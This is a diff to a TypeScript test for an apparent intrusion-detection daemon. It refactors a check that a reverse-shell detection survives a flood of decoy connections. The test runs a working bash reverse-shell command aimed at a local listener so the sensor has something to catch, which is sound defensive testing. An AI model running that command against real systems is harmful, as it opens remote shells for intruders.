@@ -7,12 +7,12 @@
  * delay under 50 ms.
  */
 import { spawn, spawnSync, type ChildProcess } from "node:child_process";
-import { mkdtempSync, readFileSync } from "node:fs";
+import { mkdtempSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { createInterface } from "node:readline";
 import { afterEach, describe, expect, it } from "vitest";
-import { kernelTier, run, tcpListener } from "./harness.js";
+import { kernelTier, peakRssMb, run, startDaemon, tcpListener } from "./harness.js";
 
 const tier = kernelTier();
 const DECOYS = 14_000;
@@ -24,13 +24,6 @@ interface FindingJson {
   rule: { id: string; severity: string };
   destination?: { port: number };
   sockeye: { coverage?: { lost: Record<string, Record<string, number>>; total: number; samples?: unknown[] }; verdict?: { reason: string } };
-}
-
-/** Peak resident set of a live process, in MB (VmHWM). */
-function peakRssMb(pid: number): number {
-  const kb = /^VmHWM:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
-  if (kb === null) throw new Error(`no VmHWM for pid ${pid}`);
-  return Number(kb[1]) / 1024;
 }
 
 describe.runIf(tier.run)("kernel: a decoy flood cannot bury a real detection", () => {
@@ -52,18 +45,9 @@ describe.runIf(tier.run)("kernel: a decoy flood cannot bury a real detection", (
     const cc = spawnSync("cc", ["-O2", "-o", helper, SOURCE], { encoding: "utf8" });
     if (cc.status !== 0) throw new Error(`cannot build the decoy helper with cc: ${cc.error?.message ?? cc.stderr}`);
 
-    const daemon = spawn(process.execPath, ["dist/cli/main.js", "run", "--format", "json", "--prometheus", "127.0.0.1:0"], { stdio: ["ignore", "pipe", "pipe"] });
-    children.push(daemon);
-    let stderr = "";
-    const findings: { receivedMs: number; finding: FindingJson }[] = [];
-    createInterface({ input: daemon.stdout }).on("line", (line) => findings.push({ receivedMs: Date.now(), finding: JSON.parse(line) as FindingJson }));
-    await new Promise<void>((resolve, reject) => {
-      daemon.stderr.on("data", (d: Buffer) => {
-        stderr += d.toString();
-        if (stderr.includes("sensor ready")) resolve();
-      });
-      daemon.on("exit", (code) => reject(new Error(`sockeye run exited ${code} before ready: ${stderr}`)));
-    });
+    const daemon = startDaemon(["--format", "json", "--prometheus", "127.0.0.1:0"]);
+    children.push(daemon.child);
+    await daemon.ready;
 
     const catcher = await tcpListener("127.0.0.1", "exit\n");
     const decoys = spawn(helper, [String(DECOYS), "9"], { stdio: ["ignore", "pipe", "inherit"] });
@@ -78,15 +62,15 @@ describe.runIf(tier.run)("kernel: a decoy flood cannot bury a real detection", (
     await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`]);
     await ready;
     await new Promise((resolve) => setTimeout(resolve, 2000));
-    const rssMb = peakRssMb(daemon.pid!);
+    const rssMb = peakRssMb(daemon.child.pid!);
     // prom-client's event loop delay histogram, over the whole run (this is its first scrape).
-    const metricsUrl = /"metrics":"(http:[^"]+)"/.exec(stderr)![1]!;
+    const metricsUrl = /"metrics":"(http:[^"]+)"/.exec(daemon.stderr())![1]!;
     const metrics = await (await fetch(metricsUrl)).text();
     const lagP99Ms = Number(/^sockeye_nodejs_eventloop_lag_p99_seconds (\S+)$/m.exec(metrics)![1]) * 1000;
 
-    daemon.kill("SIGTERM");
-    await new Promise((resolve) => daemon.once("exit", resolve));
+    await daemon.stop();
     await catcher.close();
+    const findings = daemon.findings<FindingJson>();
 
     const shell = findings.find(({ finding }) => finding.rule.id === "TRC-101" && finding.destination?.port === catcher.port && finding.sockeye.verdict?.reason !== "held_past_bound");
     expect(shell, "the real reverse shell's finding").toBeDefined();
